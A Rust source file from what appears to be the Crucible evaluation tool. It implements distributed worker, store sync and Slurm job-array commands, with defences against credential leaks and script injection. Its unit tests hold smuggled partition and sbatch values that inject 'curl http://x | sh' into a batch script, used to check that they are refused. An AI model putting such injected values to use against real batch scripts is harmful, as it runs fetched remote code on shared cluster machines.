//! Lab scale (docs/lab-scale.md): `crucible worker`, `workers list`, `store push|pull`, and the
//! Slurm job array `run --slurm` submits (or `--print-sbatch` prints). Parse, call
//! `crucible_run::distributed` / `crucible_store`, print.

use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{bail, Context, Result};
use clap::{Args, Subcommand};
use crucible_core::Config;
use crucible_run::{self as run, RunContext};
use crucible_store::{AnyStore, RunReader, StoreUrl, WorkerPlace};
use serde_json::json;

/// `crucible worker`.
#[derive(Debug, Args)]
pub struct WorkerArgs {
    /// The lab store (`postgres://user@host:port/db`; the password from PGPASSWORD or ~/.pgpass).
    #[arg(long)]
    store: String,
    /// The run to work on (default: every running run of yours with samples left, oldest
    /// first).
    #[arg(long)]
    run: Option<String>,
    /// Without --run: also take other members' runs (they choose the models your keys pay
    /// for, and the code your machine runs).
    #[arg(long, conflicts_with = "run")]
    any_run: bool,
    /// Samples this worker runs at once (default: the run's concurrency).
    #[arg(long)]
    concurrency: Option<usize>,
    /// A base URL (or fork RPC URL) the runs' stored specs may send this machine's provider key
    /// to, beyond the provider's default URL and saved providers' URLs (repeatable; the
    /// config's `trusted_base_urls` lists more). A run asking for any other is refused.
    #[arg(long = "trust-base-url", value_name = "URL")]
    trust_base_urls: Vec<String>,
    /// Seconds a claim lasts without a heartbeat (a killed worker's samples go to another
    /// worker this long after it died).
    #[arg(long, default_value_t = 30, hide = true)]
    claim_secs: u64,
    /// Print JSON.
    #[arg(long)]
    json: bool,
}

/// `crucible workers`.
#[derive(Debug, Subcommand)]
pub enum WorkersCmd {
    /// The workers of a distributed run: node, Slurm job, claimed and stored samples, state.
    List {
        /// The lab store.
        #[arg(long)]
        store: String,
        /// The run.
        #[arg(long)]
        run: String,
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },
}

/// `crucible store`.
#[derive(Debug, Subcommand)]
pub enum StoreCmd {
    /// Publish a local run to a lab store (everything: samples, transcripts, log, reviews).
    Push {
        /// The run.
        run_id: String,
        /// The lab store (or any store URL) to copy it to.
        #[arg(long)]
        to: String,
        /// The local database (default: the `database` setting, else `<data dir>/crucible.db`).
        #[arg(long)]
        db: Option<PathBuf>,
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },
    /// Start a throwaway PostgreSQL server on this machine and print its store URL; it runs until
    /// this command is stopped (Ctrl-C), then it and its data are deleted. For trying a lab
    /// store, and for tests; needs Debian's `postgresql` package.
    LocalServer {
        /// Print JSON (`{"url": …}`) as the first line.
        #[arg(long)]
        json: bool,
    },
    /// Migrate a lab store's schema to this Crucible's (a shared schema never changes by
    /// itself; every member then needs this version or newer).
    Migrate {
        /// The lab store (`postgres://user@host:port/db`).
        #[arg(long)]
        store: String,
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },
    /// Bring a run from a lab store into the local database, for review offline.
    Pull {
        /// The run.
        run_id: String,
        /// The lab store (or any store URL) to copy it from.
        #[arg(long)]
        from: String,
        /// The local database (default: the `database` setting, else `<data dir>/crucible.db`).
        #[arg(long)]
        db: Option<PathBuf>,
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },
}

/// Where this process runs, with its Slurm job and array index when Slurm placed it.
fn here(lease_s: u64) -> WorkerPlace {
    let env = |k: &str| std::env::var(k).ok().filter(|v| !v.is_empty());
    let slurm_job = match (env("SLURM_ARRAY_JOB_ID"), env("SLURM_ARRAY_TASK_ID")) {
        (Some(job), Some(task)) => Some(format!("{job}_{task}")),
        _ => env("SLURM_JOB_ID"),
    };
    WorkerPlace {
        host: run::scheduler::host_name(),
        pid: std::process::id(),
        slurm_job,
        lease_s: lease_s as i64,
    }
}

/// Opens a lab store named by `--store`; a file is refused with what to use instead.
async fn open_lab(url: &str, what: &str) -> Result<AnyStore> {
    let store = StoreUrl::parse(url)?;
    if let StoreUrl::File(p) = &store {
        bail!(
            "{what} needs a lab store (--store postgres://user@host:port/db); {} is a file",
            p.display()
        );
    }
    Ok(store.open(None).await?)
}

/// `crucible worker`.
pub async fn worker(config: &Config, a: WorkerArgs) -> Result<()> {
    let store = open_lab(&a.store, "crucible worker").await?;
    let lab = store.lab("crucible worker")?.clone();
    let me = lab.session_user().await?;
    let mut ctx = RunContext::new(config.clone(), store.clone(), crucible_catalog::loader());
    ctx.holder = run::scheduler::holder_name("crucible worker");
    ctx.lease_ttl = Duration::from_secs(a.claim_secs.max(1));
    ctx.trusted_base_urls
        .extend(a.trust_base_urls.iter().cloned());
    // Ctrl-C, and SIGTERM (Slurm's scancel and time limit): stop claiming, give back what is
    // claimed, record the worker as stopped.
    let cancel = ctx.cancel.clone();
    tokio::spawn(async move {
        let mut term =
            tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate()).ok();
        let terminated = async {
            match term.as_mut() {
                Some(t) => {
                    t.recv().await;
                }
                None => std::future::pending::<()>().await,
            }
        };
        tokio::select! {
            _ = tokio::signal::ctrl_c() => {}
            _ = terminated => {}
        }
        cancel.cancel();
    });
    let mut reports = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    loop {
        let run_id = match &a.run {
            Some(r) if seen.is_empty() => r.clone(),
            Some(_) => break,
            None => {
                // The oldest running run with samples left that this worker has not left: the
                // caller's own, unless --any-run.
                let mut next = None;
                for id in store.run_ids().await? {
                    if seen.contains(&id)
                        || store.run(&id).await?.status != crucible_core::RunStatus::Running
                    {
                        continue;
                    }
                    if !a.any_run && lab.run_owner(&id).await?.0 != me {
                        continue;
                    }
                    if lab.queue_state(&id).await?.open > 0 {
                        next = Some(id);
                        break;
                    }
                }
                match next {
                    Some(id) => id,
                    None => break,
                }
            }
        };
        seen.insert(run_id.clone());
        let r = match run::distributed::work(&ctx, &run_id, here(a.claim_secs), a.concurrency).await
        {
            // Without --run, a run this machine refuses (a key to a URL not allowed here, an
            // edited spec) is left for others instead of stopping the worker.
            Err(e @ run::RunError::Untrusted(_)) if a.run.is_none() => {
                eprintln!("skipping {e}");
                continue;
            }
            r => r?,
        };
        if !a.json {
            out!(
                "{}: {} — {}/{} samples stored in all",
                r.run_id,
                r.status,
                r.finished,
                r.samples
            );
        }
        reports.push(r);
        if ctx.cancel.is_cancelled() {
            break;
        }
    }
    if a.json {
        out!("{}", serde_json::to_string_pretty(&reports)?);
    } else if reports.is_empty() {
        if a.any_run || a.run.is_some() {
            out!("no running run has samples left in {}", store.location());
        } else {
            out!(
                "no running run of yours ({}) has samples left in {} (--any-run takes other \
                 members' runs too)",
                crucible_store::terminal_safe(&me),
                store.location()
            );
        }
    }
    store.close().await;
    Ok(())
}

/// `crucible workers …`.
pub async fn workers(cmd: WorkersCmd) -> Result<()> {
    match cmd {
        WorkersCmd::List { store, run, json } => {
            let any = open_lab(&store, "crucible workers list").await?;
            let lab = any.lab("crucible workers list")?;
            lab.run(&run).await?;
            let rows = lab.workers(&run).await?;
            let queue = lab.queue_state(&run).await?;
            if json {
                out!(
                    "{}",
                    serde_json::to_string_pretty(&json!({"run_id": run, "queue": queue,
                                                         "workers": rows}))?
                );
            } else {
                out!(
                    "{run}: {} of {} samples stored, {} being run, {} waiting, {} given up",
                    queue.done,
                    queue.planned,
                    queue.claimed,
                    queue.open,
                    queue.given_up
                );
                // Every text here was written by some worker (or by hand): shown without the
                // control characters a terminal would act on.
                let safe = crucible_store::terminal_safe;
                for w in &rows {
                    out!(
                        "worker {:<4} {:<8} {:<20} pid {:<8} slurm {:<10} claimed {:<5} stored {:<5} last heard {} s ago{}",
                        w.id,
                        safe(&w.state),
                        safe(&w.host),
                        w.pid,
                        safe(w.slurm_job.as_deref().unwrap_or("-")),
                        w.claimed,
                        w.finished,
                        w.silent_s,
                        w.error.as_ref().map(|e| format!(" ({})", safe(e))).unwrap_or_default()
                    );
                }
            }
            any.close().await;
        }
    }
    Ok(())
}

/// `crucible store push|pull|migrate|local-server`.
pub async fn store(config: &Config, cmd: StoreCmd) -> Result<()> {
    let (run_id, local, remote, push, json) = match cmd {
        StoreCmd::LocalServer { json } => {
            // Listen for Ctrl-C before anything is printed: one pressed as soon as the URL shows
            // must stop the server cleanly, not kill the command with the default handler.
            let mut interrupt =
                tokio::signal::unix::signal(tokio::signal::unix::SignalKind::interrupt())?;
            let server = crucible_store::LocalServer::start()?;
            let url = server.fresh_database().await?;
            if json {
                out!(
                    "{}",
                    json!({"url": url, "socket_dir": server.socket_dir().display().to_string()})
                );
            } else {
                out!("{url}");
                eprintln!(
                    "a throwaway PostgreSQL server runs until this command stops (Ctrl-C); \
                     its data goes with it. It listens on no TCP port: only this user reaches \
                     its socket in {}, and the password is in the URL above (keep it to \
                     yourself)",
                    server.socket_dir().display()
                );
            }
            interrupt.recv().await;
            return Ok(());
        }
        StoreCmd::Migrate { store, json } => {
            if !matches!(StoreUrl::parse(&store)?, StoreUrl::Lab(_)) {
                bail!(
                    "crucible store migrate is for a lab store (postgres://…); an SQLite file \
                     is migrated when it is opened"
                );
            }
            let (from, to) = crucible_store::PgStore::migrate(&store, None).await?;
            let shown = crucible_store::redact_url(&store);
            if json {
                out!(
                    "{}",
                    serde_json::to_string_pretty(
                        &json!({"store": shown, "schema_before": from, "schema": to})
                    )?
                );
            } else if from == to {
                out!("{shown} already has schema version {to}");
            } else {
                out!("migrated {shown} from schema version {from} to {to}");
            }
            return Ok(());
        }
        StoreCmd::Push {
            run_id,
            to,
            db,
            json,
        } => (run_id, db, to, true, json),
        StoreCmd::Pull {
            run_id,
            from,
            db,
            json,
        } => (run_id, db, from, false, json),
    };
    let local_path = super::runs::db_path(config, local)?;
    let remote = StoreUrl::parse(&remote)?;
    let remote_name = remote.shown();
    let remote = remote.open(None).await?;
    if !push {
        // A distributed run still going is refused: its workers are still storing samples.
        if let Ok(lab) = remote.lab("") {
            let run = lab.run(&run_id).await?;
            let q = lab.queue_state(&run_id).await?;
            if run.status == crucible_core::RunStatus::Running && q.planned > 0 {
                bail!(
                    "run {run_id} is still being run by its workers ({} of {} samples stored); \
                     pull it when it has finished, or cancel it with `crucible runs cancel {run_id} \
                     --store {remote_name}`",
                    q.done,
                    q.planned
                );
            }
        }
    }
    let (copied, from, to) = if push {
        let local = crucible_store::Store::open_existing(&local_path).await?;
        let c = crucible_store::copy_run(&local, &remote, &run_id, &remote_name).await?;
        (c, local_path.display().to_string(), remote_name)
    } else {
        let local = crucible_store::Store::open(&local_path).await?;
        let name = local_path.display().to_string();
        let c = crucible_store::copy_run(&remote, &local, &run_id, &name).await?;
        (c, remote_name, name)
    };
    remote.close().await;
    if json {
        out!(
            "{}",
            serde_json::to_string_pretty(&json!({"run_id": run_id, "from": from, "to": to,
                                                 "copied": copied}))?
        );
    } else {
        out!(
            "copied {run_id} from {from} to {to}: {} samples, {} overrides, {} replays",
            copied.samples,
            copied.overrides,
            copied.replays
        );
    }
    Ok(())
}

/// What `run --slurm` submits: a job array of `workers` tasks, each a `crucible worker` on the
/// run. The store URL is written without its password: sbatch exports the submitting shell's
/// environment (PGPASSWORD) to the tasks, and `~/.pgpass` works on every node.
#[derive(Debug, Clone)]
pub struct SlurmJob {
    /// The planned run.
    pub run_id: String,
    /// The lab store, as given (its password is dropped from the script).
    pub store: String,
    /// Array tasks.
    pub workers: u32,
    /// `--partition`.
    pub partition: Option<String>,
    /// Extra `#SBATCH` lines (`--time=1:00:00`, `--gres=gpu:1`, …).
    pub sbatch_args: Vec<String>,
    /// Samples each worker runs at once.
    pub concurrency: Option<usize>,
    /// Where the tasks' output goes.
    pub log_dir: PathBuf,
    /// Base URLs the submitting user gave the run's models (`--base-url`, without
    /// credentials): the workers get them as `--trust-base-url`, since a stored spec's models
    /// are called only at URLs the worker's user allowed.
    pub trust_base_urls: Vec<String>,
}

fn quoted(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Refuses `--partition` and `--sbatch-arg` values that would add lines to the batch script (a
/// newline ends an `#SBATCH` line, and everything after it runs as shell): no control
/// characters at all, and an `--sbatch-arg` must be one option (`--time=1:00:00`).
pub fn check_slurm_args(partition: Option<&str>, sbatch_args: &[String]) -> Result<()> {
    let bad = |s: &str| s.chars().any(char::is_control);
    if let Some(p) = partition {
        if bad(p) || p.trim().is_empty() || p.chars().any(char::is_whitespace) {
            bail!(
                "--partition {:?} is not a partition name (no spaces, newlines or control \
                 characters)",
                p
            );
        }
    }
    for a in sbatch_args {
        if bad(a) || !a.starts_with('-') {
            bail!(
                "--sbatch-arg {:?} is not one sbatch option: give each as --sbatch-arg=--time=1:00:00, \
                 without newlines or control characters",
                a
            );
        }
    }
    Ok(())
}

impl SlurmJob {
    /// Refuses what cannot be written into the script safely ([`check_slurm_args`], a log
    /// folder with control characters or a double quote).
    pub fn check(&self) -> Result<()> {
        check_slurm_args(self.partition.as_deref(), &self.sbatch_args)?;
        let dir = self.log_dir.display().to_string();
        if dir.chars().any(|c| c.is_control() || c == '"') {
            bail!("the Slurm log folder {dir:?} holds a control character or a double quote; set another data folder");
        }
        Ok(())
    }

    /// The batch script. Call [`SlurmJob::check`] first.
    pub fn script(&self, crucible: &Path) -> String {
        let mut s = String::from("#!/bin/bash\n");
        s.push_str(&format!("#SBATCH --job-name=crucible-{}\n", self.run_id));
        s.push_str(&format!("#SBATCH --array=0-{}\n", self.workers.max(1) - 1));
        // Quoted: sbatch reads `#SBATCH` lines with quotes, so a folder with spaces is one path.
        s.push_str(&format!(
            "#SBATCH --output=\"{}\"\n",
            self.log_dir.join("worker-%A_%a.out").display()
        ));
        if let Some(p) = &self.partition {
            s.push_str(&format!("#SBATCH --partition={p}\n"));
        }
        for a in &self.sbatch_args {
            s.push_str(&format!("#SBATCH {a}\n"));
        }
        s.push_str(
            "# One Crucible worker per array task; they share the run through the lab store.\n\
             # The store's password comes from PGPASSWORD (exported by sbatch) or ~/.pgpass.\n",
        );
        let mut cmd = format!(
            "exec {} worker --store {} --run {}",
            quoted(&crucible.display().to_string()),
            quoted(&crucible_store::redact_url(&self.store)),
            quoted(&self.run_id)
        );
        if let Some(c) = self.concurrency {
            cmd.push_str(&format!(" --concurrency {c}"));
        }
        for u in &self.trust_base_urls {
            cmd.push_str(&format!(" --trust-base-url {}", quoted(u)));
        }
        s.push_str(&cmd);
        s.push('\n');
        s
    }

    /// Submits the script with `sbatch`; returns the job id.
    /// A password in the store URL goes to the tasks as `PGPASSWORD` in sbatch's environment
    /// (which sbatch exports to them), never into the script or a command line.
    pub fn submit(&self, crucible: &Path) -> Result<String> {
        use std::io::Write;
        self.check()?;
        std::fs::create_dir_all(&self.log_dir)
            .with_context(|| format!("creating {}", self.log_dir.display()))?;
        let mut sbatch = std::process::Command::new("sbatch");
        if let (Some(pw), None) = (
            crucible_store::split_url_password(&self.store).1,
            std::env::var_os("PGPASSWORD"),
        ) {
            sbatch.env("PGPASSWORD", pw);
        }
        let mut child = sbatch
            .arg("--parsable")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .context(
                "starting sbatch (is this a Slurm submit host? `crucible run --print-sbatch` \
                 prints the script to submit elsewhere)",
            )?;
        child
            .stdin
            .take()
            .context("sbatch's input")?
            .write_all(self.script(crucible).as_bytes())?;
        let out = child.wait_with_output()?;
        if !out.status.success() {
            bail!(
                "sbatch refused the job array: {}",
                String::from_utf8_lossy(&out.stderr).trim()
            );
        }
        let id = String::from_utf8_lossy(&out.stdout)
            .trim()
            .split(';')
            .next()
            .unwrap_or_default()
            .to_string();
        if id.is_empty() {
            bail!("sbatch printed no job id");
        }
        Ok(id)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_batch_script_runs_one_worker_per_task_without_the_password() {
        let job = SlurmJob {
            run_id: "run-1".into(),
            store: "postgres://ada:s3cret@db:5432/lab".into(),
            workers: 3,
            partition: Some("gpu".into()),
            sbatch_args: vec!["--time=2:00:00".into()],
            concurrency: Some(4),
            log_dir: "/data/slurm".into(),
            trust_base_urls: vec!["http://vllm-1:8000/v1".into()],
        };
        let s = job.script(Path::new("/opt/crucible/bin/crucible"));
        assert!(
            s.starts_with("#!/bin/bash\n#SBATCH --job-name=crucible-run-1\n#SBATCH --array=0-2\n"),
            "{s}"
        );
        assert!(
            s.contains("#SBATCH --output=\"/data/slurm/worker-%A_%a.out\"\n"),
            "{s}"
        );
        assert!(
            s.contains("#SBATCH --partition=gpu\n#SBATCH --time=2:00:00\n"),
            "{s}"
        );
        assert!(s.contains("exec '/opt/crucible/bin/crucible' worker --store 'postgres://ada@db:5432/lab' --run 'run-1' --concurrency 4 --trust-base-url 'http://vllm-1:8000/v1'\n"), "{s}");
        assert!(!s.contains("s3cret"), "{s}");
    }

    #[test]
    fn a_newline_in_a_slurm_argument_is_refused_not_written_into_the_script() {
        let job = |partition: &str, arg: &str| SlurmJob {
            run_id: "run-1".into(),
            store: "postgres://ada@db/lab".into(),
            workers: 1,
            partition: Some(partition.into()),
            sbatch_args: vec![arg.into()],
            concurrency: None,
            log_dir: "/data/slurm".into(),
            trust_base_urls: vec![],
        };
        assert!(job("gpu", "--time=1:00:00").check().is_ok());
        for (p, a) in [
            ("debug\ncurl http://x | sh #", "--time=1:00:00"),
            ("gpu", "--time=1:00:00\ncurl http://x | sh"),
            ("gpu", "--time=1\r"),
            ("gpu", "curl"),
            ("gpu debug", "--time=1"),
        ] {
            let e = job(p, a).check().unwrap_err().to_string();
            assert!(
                e.contains("--partition") || e.contains("--sbatch-arg"),
                "{e}"
            );
        }
        let mut spaced = job("gpu", "--time=1");
        spaced.log_dir = "/data/my runs/slurm".into();
        assert!(spaced
            .script(Path::new("/c"))
            .contains("#SBATCH --output=\"/data/my runs/slurm/worker-%A_%a.out\"\n"));
        spaced.log_dir = "/data/x\ny".into();
        assert!(spaced.check().is_err());
    }
}
